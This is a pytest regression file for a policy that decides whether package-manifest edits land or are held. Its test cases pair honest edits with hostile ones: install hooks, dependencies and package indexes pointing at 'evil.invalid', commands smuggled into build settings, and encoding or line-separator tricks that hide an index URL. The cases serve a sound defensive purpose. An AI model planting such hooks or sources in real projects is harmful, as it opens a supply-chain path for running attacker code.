# SPDX-License-Identifier: Apache-2.0
"""A manifest that made a package manager run or fetch something by itself landed as any file.

Ordinary work (a package by name and version, a script, a linter's settings) lands; each refused
case stands beside an honest one.
"""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from policy.model import Change, FileType, Kind
from policy.protected.settings import stays_inside
from tests.container.lab import Lab
from tests.regressions.test_what_programs_obey_is_held import change, outcome

FILE = FileType.FILE
NPM = {"name": "a", "version": "1.0.0", "scripts": {"test": "vitest"}, "dependencies": {}}


def _npm(**more: object) -> str:
    return json.dumps({**NPM, **more}, indent=2)


CASES: dict[str, tuple[str, str | None, str | None, str]] = {
    # path, text before, text after, the outcome
    "a script": (
        "package.json",
        _npm(),
        _npm(scripts={"test": "vitest", "lint": "eslint"}),
        "land",
    ),
    "a hook of npm's": ("package.json", _npm(), _npm(scripts={"postinstall": "node x"}), "hold"),
    "another hook": ("package.json", _npm(), _npm(scripts={"prepare": "husky"}), "hold"),
    "a hook that was there": (
        "package.json",
        _npm(scripts={"prepare": "husky"}),
        _npm(scripts={"prepare": "husky", "dev": "vite"}),
        "land",
    ),
    "a hook that goes": ("package.json", _npm(scripts={"prepare": "husky"}), _npm(), "land"),
    "npm install": (
        "package.json",
        _npm(),
        _npm(dependencies={"react": "^18.3.1", "@a/b": "~1.2.0", "c": "1.x || >=2.5.0 <3.0.0"}),
        "land",
    ),
    "a new project": ("package.json", None, _npm(type="module", private=True), "land"),
    "a package of the workspace": (
        "package.json",
        _npm(),
        _npm(devDependencies={"a": "workspace:*"}),
        "land",
    ),
    "a package from git": (
        "package.json",
        _npm(),
        _npm(dependencies={"a": "git+https://x/y"}),
        "hold",
    ),
    "a package from a site": (
        "package.json",
        _npm(),
        _npm(dependencies={"a": "https://x/y.tgz"}),
        "hold",
    ),
    "a package of a stranger's": (
        "package.json",
        _npm(),
        _npm(dependencies={"a": "who/what"}),
        "hold",
    ),
    "a package from a folder": (
        "package.json",
        _npm(),
        _npm(dependencies={"a": "file:../x"}),
        "hold",
    ),
    "an override from elsewhere": (
        "package.json",
        _npm(),
        _npm(overrides={"a": {"b": "github:who/what"}}),
        "hold",
    ),
    "an override by version": (
        "package.json",
        _npm(),
        _npm(overrides={"a": {"b": "1.2.3"}}),
        "land",
    ),
    "a package manager": ("package.json", _npm(), _npm(packageManager="pnpm@9.1.0"), "land"),
    "a package manager from a site": (
        "package.json",
        _npm(),
        _npm(packageManager="yarn@https://evil.invalid/y.js"),
        "hold",
    ),
    "what a commit runs": ("package.json", _npm(), _npm(**{"lint-staged": {"*": "x"}}), "hold"),
    "packages that may run": ("package.json", _npm(), _npm(trustedDependencies=["a"]), "hold"),
    "where it is published": (
        "package.json",
        _npm(),
        _npm(publishConfig={"registry": "https://evil.invalid"}),
        "hold",
    ),
    "a key twice": ("package.json", _npm(), '{"scripts": {}, "scripts": {}}', "hold"),
    "a manifest that is not JSON": ("package.json", _npm(), "{", "hold"),
    "another package's": ("node_modules/a/package.json", None, None, "land"),
    "uv add": (
        "pyproject.toml",
        '[project]\nname = "a"\ndependencies = []\n',
        '[project]\nname = "a"\ndependencies = ["httpx[http2]>=0.27,<1; python_version>\'3\'"]\n'
        "[tool.ruff]\nline-length = 100\n[dependency-groups]\ndev = ['pytest>=8']\n",
        "land",
    ),
    "a requirement by its address": (
        "pyproject.toml",
        None,
        '[project]\nname = "a"\ndependencies = ["a @ https://evil.invalid/a.whl"]\n',
        "hold",
    ),
    "the same over two lines": (
        "pyproject.toml",
        None,
        '[project]\nname = "a"\ndependencies = ["""a @\nhttps://evil.invalid/a.whl"""]\n',
        "hold",
    ),
    "uv's sources": (
        "pyproject.toml",
        None,
        '[tool.uv.sources]\na = { git = "https://evil.invalid/a" }\n',
        "hold",
    ),
    "uv's index": ("pyproject.toml", None, '[[tool.uv.index]]\nurl = "https://x"\n', "hold"),
    "poetry add": (
        "pyproject.toml",
        None,
        '[tool.poetry.dependencies]\npython = "^3.11"\n'
        'httpx = {version = "^0.27", extras = ["a"]}\n',
        "land",
    ),
    "poetry's sources": (
        "pyproject.toml",
        None,
        '[[tool.poetry.source]]\nname = "a"\nurl = "https://x"\n',
        "hold",
    ),
    "poetry's git": (
        "pyproject.toml",
        None,
        '[tool.poetry.dependencies]\na = {git = "https://x/y"}\n',
        "hold",
    ),
    "a builder of the project's own": (
        "pyproject.toml",
        None,
        '[build-system]\nrequires = []\nbuild-backend = "x"\nbackend-path = ["."]\n',
        "hold",
    ),
    "a well-known builder": (
        "pyproject.toml",
        None,
        '[build-system]\nrequires = ["hatchling>=1"]\nbuild-backend = "hatchling.build"\n',
        "land",
    ),
    "requirements": (
        "requirements-dev.txt",
        None,
        "# all\n-r requirements.txt\nhttpx==0.27.0  # why\n-e .\n"
        "b[c]>=1,!=1.2,<2 ; python_version > '3'\n",
        "land",
    ),
    "requirements of a folder": (
        "requirements/dev.txt",
        None,
        "-r base.txt\npytest~=8.0\n",
        "land",
    ),
    "requirements with hashes": (
        "requirements.txt",
        None,
        "a==1.0 \\\n    --hash=sha256:0a1b \\\n    --hash=sha256:0a1c\n",
        "land",
    ),
    "another index": ("requirements.txt", None, "--index-url https://evil.invalid\na\n", "hold"),
    "one more index": ("requirements.txt", "a\n", "a\n--extra-index-url=https://x\n", "hold"),
    "a requirement from git": ("requirements.txt", None, "git+https://evil.invalid/a\n", "hold"),
    "a requirement at an address": ("requirements.txt", None, "a @ file:///tmp/a\n", "hold"),
    "a file that nobody judges": ("requirements.txt", None, "-r ../x.txt\n", "hold"),
    "an index behind a line's end of Python's": (
        "requirements.txt",
        None,
        "# a\u2028--index-url https://evil.invalid\n",
        "hold",
    ),
    "an index behind another": (
        "requirements.txt",
        None,
        "a==2.0 ; python_version>'3' \x85--index-url https://evil.invalid\n",
        "hold",
    ),
    "an index in another encoding": (
        "requirements.txt",
        None,
        "# -*- coding: utf-7 -*-\n# +AAo---index-url https:+AC8ALw-evil.invalid/\n",
        "hold",
    ),
    "an encoding that is the usual one": (
        "requirements.txt",
        None,
        "# -*- coding: utf-8 -*-\na==1.0\n",
        "land",
    ),
    "options of one requirement": (
        "requirements.txt",
        None,
        "a ; python_version>'3' --global-option=x\n",
        "hold",
    ),
    "an archive of the folder": ("requirements.txt", None, "a-1.0-py3-none-any.whl\n", "hold"),
    "a command for a version": (
        "pyproject.toml",
        None,
        '[tool.setuptools_scm]\ngit_describe_command = "sh -c id"\n',
        "hold",
    ),
    "a version from tags": (
        "pyproject.toml",
        None,
        '[tool.setuptools_scm]\nversion_file = "a/v.py"\n[tool.hatch.version]\nsource = "vcs"\n',
        "land",
    ),
    "a version that is computed": (
        "pyproject.toml",
        None,
        '[tool.hatch.version]\nsource = "code"\nexpression = "x()"\n',
        "hold",
    ),
    "a workspace of cargo's elsewhere": (
        "Cargo.toml",
        None,
        '[package]\nname = "a"\nworkspace = "../x"\n',
        "hold",
    ),
    "an index of pipenv's": (
        "Pipfile",
        None,
        '[[source]]\nurl = "https://x"\nname = "p"\n',
        "hold",
    ),
    "pipenv install": ("Pipfile", None, '[packages]\na = "*"\nb = {version = "~=1.0"}\n', "land"),
    "cargo new": (
        "Cargo.toml",
        None,
        '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\n',
        "land",
    ),
    "cargo add": (
        "crates/a/Cargo.toml",
        None,
        '[dependencies]\nserde = { version = "1.0", features = ["derive"] }\n'
        'b = { path = "../b" }\n'
        "[target.'cfg(unix)'.dependencies]\nlibc = '0.2'\n",
        "land",
    ),
    "a crate from git": ("Cargo.toml", None, '[dependencies]\na = { git = "https://x" }\n', "hold"),
    "a crate from outside": (
        "Cargo.toml",
        None,
        '[dependencies]\na = { path = "../../x" }\n',
        "hold",
    ),
    "a crate in place of another": (
        "Cargo.toml",
        None,
        '[patch.crates-io]\nserde = { path = "x" }\n',
        "hold",
    ),
    "go get": (
        "go.mod",
        "module x\n",
        "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.2.3 // indirect\n"
        "\tc.d/e v0.0.0-2024\n)\n",
        "land",
    ),
    "a module in place of another": (
        "go.mod",
        "module x\n",
        "module x\nreplace a => ../b\n",
        "hold",
    ),
    "bundle add": (
        "Gemfile",
        'source "https://gems.example"\n',
        'source "https://gems.example"\n\ngem "rails", "~> 7.1"\n'
        'group :test do\n  gem "rspec", require: false\nend\n',
        "land",
    ),
    "a gem's group": (
        "Gemfile",
        "",
        'gem "a", "~> 1.0", group: %i[test], require: "b"\ngem "c", platforms: [:mri, :windows]\n',
        "land",
    ),
    "a gem from git": ("Gemfile", "", 'gem "a", git: "https://x"\n', "hold"),
    "a program in a Gemfile": ("Gemfile", "", 'gem "a", "1 #{`id`}"\n', "hold"),
    "composer require": (
        "composer.json",
        "{}",
        '{"require": {"a/b": "^1.0"}, "scripts": {"test": "phpunit"}}',
        "land",
    ),
    "composer's repositories": (
        "composer.json",
        "{}",
        '{"repositories": [{"type": "vcs"}]}',
        "hold",
    ),
    "composer's hooks": (
        "composer.json",
        "{}",
        '{"scripts": {"post-install-cmd": "id"}}',
        "hold",
    ),
    "a dependency of maven's": (
        "pom.xml",
        "<project/>",
        "<project><dependencies><dependency><artifactId>a</artifactId></dependency></dependencies></project>",
        "land",
    ),
    "a repository of maven's": (
        "pom.xml",
        "<project/>",
        "<project><repositories><repository><url>https://x</url></repository></repositories></project>",
        "hold",
    ),
    "a parent of maven's outside": (
        "pom.xml",
        "<project/>",
        "<project><parent><relativePath>../../x/pom.xml</relativePath></parent></project>",
        "hold",
    ),
    "a parent of maven's": (
        "app/pom.xml",
        "<project/>",
        "<project><parent><relativePath>../pom.xml</relativePath></parent></project>",
        "land",
    ),
    "no parent of maven's in the tree": (
        "pom.xml",
        "<project/>",
        "<project><parent><relativePath/></parent><modules><module>app</module></modules></project>",
        "land",
    ),
    "an extension of maven's": (
        "pom.xml",
        "<project/>",
        "<project><build><pluginManagement><plugins><plugin><extensions>true</extensions></plugin>"
        "</plugins></pluginManagement></build></project>",
        "hold",
    ),
    "patches of composer's": (
        "composer.json",
        "{}",
        '{"extra": {"patches-file": "x.json"}}',
        "hold",
    ),
    "hooks by a plugin of composer's": (
        "composer.json",
        "{}",
        '{"extra": {"hooks": {"pre-commit": "id"}}}',
        "hold",
    ),
    "a new project of composer's": (
        "composer.json",
        None,
        '{"name": "a/b", "type": "project", "license": "MIT", "require": {"php": ">=8.2", '
        '"symfony/framework-bundle": "7.1.*"}, "autoload": {"psr-4": {"App\\\\": "src/"}}, '
        '"extra": {"symfony": {"allow-contrib": false, "require": "7.1.*"}}, '
        '"scripts": {"auto-scripts": {"cache:clear": "symfony-cmd"}}}',
        "land",
    ),
    "setuptools": (
        "setup.cfg",
        None,
        "[metadata]\nname = a\nversion = attr: a.__version__\n\n[options]\npackages = find:\n"
        "install_requires =\n    requests>=2 ; python_version > '3'\n    # why\n    b\n"
        "[options.extras_require]\ndev = pytest\n[tool:pytest]\naddopts = -q\n[flake8]\n"
        "exclude = .git,\n    build\n",
        "land",
    ),
    "setuptools' requirement at an address": (
        "setup.cfg",
        None,
        "[options]\ninstall_requires =\n    a @ https://evil.invalid/a\n",
        "hold",
    ),
    "the same behind another": (
        "setup.cfg",
        None,
        "[options]\ninstall_requires = a; b @ https://evil.invalid/a\n",
        "hold",
    ),
    "setuptools' commands": ("setup.cfg", None, "[global]\ncommand_packages = x\n", "hold"),
    "hpack": (
        "package.yaml",
        None,
        "name: a\nversion: 0.1.0.0\ngithub: me/a\ndependencies:\n- base >= 4.7 && < 5\n"
        "library:\n  source-dirs: src\nghc-options:\n- -Wall\n",
        "land",
    ),
    "pnpm's hook": ("package.yaml", None, "scripts:\n  postinstall: x\n", "hold"),
    "conda": (
        "environment.yml",
        None,
        "name: a\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - numpy>=1.20,<2\n"
        "  - pip:\n    - httpx==0.27\n",
        "land",
    ),
    "conda's pip": (
        "environment.yml",
        None,
        "dependencies:\n- pip:\n  - git+https://evil.invalid/a\n",
        "hold",
    ),
    "conda's variables": ("environment.yml", None, "variables:\n  PATH: x\n", "hold"),
    "pixi": (
        "pixi.toml",
        None,
        '[workspace]\nname = "a"\nchannels = ["conda-forge"]\n[dependencies]\npython = ">=3.11"\n',
        "land",
    ),
    "pixi's scripts": ("pixi.toml", None, '[activation]\nscripts = ["x.sh"]\n', "hold"),
    "hatch's": ("hatch.toml", None, '[envs.default]\ndependencies = ["pytest"]\n', "land"),
    "hatch's hook": ("hatch.toml", None, "[build.hooks.custom]\n", "hold"),
    "stack new": (
        "stack.yaml",
        None,
        "resolver: lts-22.13\npackages:\n- .\nextra-deps:\n- a-1.0.3\n",
        "land",
    ),
    "stack's git": ("stack.yaml", None, "extra-deps:\n- git: https://x\n", "hold"),
    "a package of Julia": ("Project.toml", None, '[deps]\nA = "uuid"\n', "land"),
    "a package of Julia from elsewhere": (
        "Project.toml",
        None,
        '[sources]\nA = {url = "https://x"}\n',
        "hold",
    ),
    "a shard": (
        "shard.yml",
        None,
        "name: a\ndependencies:\n  b:\n    github: c/b\n    version: ~> 1.0\n",
        "land",
    ),
    "a shard's hook": ("shard.yml", None, "scripts:\n  postinstall: x\n", "hold"),
    "helm create": ("Chart.yaml", None, "apiVersion: v2\nname: a\nversion: 0.1.0\n", "land"),
    "a chart from elsewhere": (
        "Chart.yaml",
        None,
        "dependencies:\n- name: a\n  repository: https://x\n",
        "hold",
    ),
    "properties of .NET": (
        "Directory.Build.props",
        None,
        "<Project><PropertyGroup><Nullable>enable</Nullable></PropertyGroup></Project>",
        "land",
    ),
    "a program of .NET": (
        "Directory.Build.targets",
        None,
        '<Project><Target Name="a" BeforeTargets="Build"><Exec Command="id"/></Target></Project>',
        "hold",
    ),
    "entities": ("pom.xml", "<project/>", "<!DOCTYPE a [<!ENTITY b 'c'>]><project/>", "hold"),
    "a package of dart's": (
        "pubspec.yaml",
        "name: a\n",
        "name: a\ndependencies:\n  b: ^1.0.0\n",
        "land",
    ),
    "dart's git": (
        "pubspec.yaml",
        "name: a\n",
        "name: a\ndependencies:\n  b:\n    git: https://x\n",
        "hold",
    ),
}


@pytest.mark.parametrize("path, before, after, expected", CASES.values(), ids=CASES)
def test_rows(path: str, before: str | None, after: str | None, expected: str) -> None:
    if before is None and after is None:
        assert outcome(Change(path, Kind.CREATED, FILE)) == expected
        return
    assert outcome(change(path, before, after)) == expected
    assert outcome(change(f"Sub/{path}", before, after)) in (expected, "land")


def test_a_manifest_is_moved_with_its_folder() -> None:
    text = _npm(scripts={"prepare": "x"})

    def moved(path: str, source: str) -> Change:
        return Change(path, Kind.RENAMED, FILE, source, before_text=text, after_text=text)

    assert outcome(moved("b/package.json", "a/package.json")) == "land"
    assert outcome(moved("package.json", "fixtures/package.json")) == "hold"
    assert outcome(moved("a/package.json", "a/package.json.txt")) == "hold"


def test_a_path_stays_inside() -> None:
    assert stays_inside("../b", 1)
    assert stays_inside("./a/../b", 0)
    for path in ("..", "a/../../b", "/a", "~/a", "a\\..\\..\\b", "$HOME", "c:x"):
        assert not stays_inside(path, 0)


def test_no_text_takes_long() -> None:
    """Their cost is bounded by their length: one that looked back and back would never end."""
    for text in ("a" + "!a" * 30_000, "a" + "!=1" * 20_000, "a" + " 1" * 30_000, "1" * 60_000):
        assert outcome(change("requirements.txt", None, text + "@")) == "hold"
        assert outcome(change("package.json", None, _npm(dependencies={"a": text + "@"}))) == "hold"
        assert outcome(change("Gemfile", None, f'gem "{text}')) == "hold"
    assert outcome(change("pom.xml", None, "<a>" * 20_000)) == "hold"
    assert outcome(change("composer.json", None, "[" * 60_000)) == "hold"


PUMPS = (
    *(
        " ",
        "a",
        "1",
        "1.",
        "1,",
        "1 ",
        ">=1",
        ">=1,",
        "==1",
        "!=1",
        "~=1 ",
        "a-",
        " || 1",
        "1 - ",
        ",",
    ),
    *(
        '"',
        ",group:a",
        ",group: :a",
        ", require: true",
        ".a",
        "/a",
        "../",
        "*",
        "-Xmx1g ",
        ";",
        ":",
    ),
    *(
        " --hash=sha256:a",
        ";1 ",
        "lts/",
        "\t",
        "=",
        "-a",
        "a,",
        "[",
        "a=b&",
        "${a}",
        "'a'",
        "#",
        "\\",
    ),
)
STARTS = ("", "a", '1"', 'gem "a"', "a>=1", "^1", "npm:a@", "./", "use ./a", "a[", "a;", "A=")
SWEEP = """
import sys
from policy.protected.paths import ObeyedFile
from policy.protected.settings import MOST_VALUE
from tests.regressions.test_manifests_are_judged_by_content import PUMPS, STARTS

found = ObeyedFile.default()
for rule in (*found.obeyed, *found.manifests):
    for one in rule.settings.patterns:
        print(rule.id, file=sys.stderr)
        for start in STARTS if one.compares else ():
            for pump in PUMPS:
                one.allows((start + pump * MOST_VALUE)[: MOST_VALUE - 2] + '!"', 0)
"""


def test_no_expression_of_the_table_takes_long() -> None:
    """None looks back and back: one that did would hold all who ask up, and never end here."""
    done = subprocess.run(
        [sys.executable, "-c", SWEEP], capture_output=True, text=True, timeout=300, check=False
    )
    assert done.returncode == 0, done.stderr[-2000:]


def test_in_a_cell(lab: Lab) -> None:
    (lab.ws / "package.json").write_text(_npm())
    (lab.ws / "Cargo.toml").write_text('[package]\nname = "a"\n')
    write = (
        "python3 - <<'X'\nimport json\np = json.load(open('package.json'))\n{}\n"
        "json.dump(p, open('package.json', 'w'), indent=2)\nX"
    )
    for command in (
        write.format("p['scripts']['postinstall'] = 'touch x'"),
        write.format("p['dependencies']['a'] = 'git+https://evil.invalid/a'"),
        "printf '[dependencies]\\na = {git = \"https://x\"}\\n' >>Cargo.toml",
        "printf -- '--index-url https://x\\n' >requirements.txt",
        "head -c 100000 /dev/zero | tr '\\0' ' ' >>package.json",
    ):
        done = lab.sh(command)
        assert done.judgement == "hold", (command, done.message, done.stderr)
        assert "-manifest" in done.message or "-requirements" in done.message, done.message
        lab.run(lab.supervisor.discard(done.id))
    for command in (
        write.format("p['scripts']['lint'] = 'eslint .'; p['dependencies']['react'] = '^18.3.1'"),
        "printf '[dependencies]\\nserde = \"1\"\\n' >>Cargo.toml",
        "printf 'httpx==0.27\\n' >requirements.txt",
        "mkdir -p node_modules/a && "
        'printf \'{"scripts": {"install": "x"}}\' >node_modules/a/package.json',
    ):
        done = lab.sh(command)
        assert done.landed, (command, done.message, done.stderr)
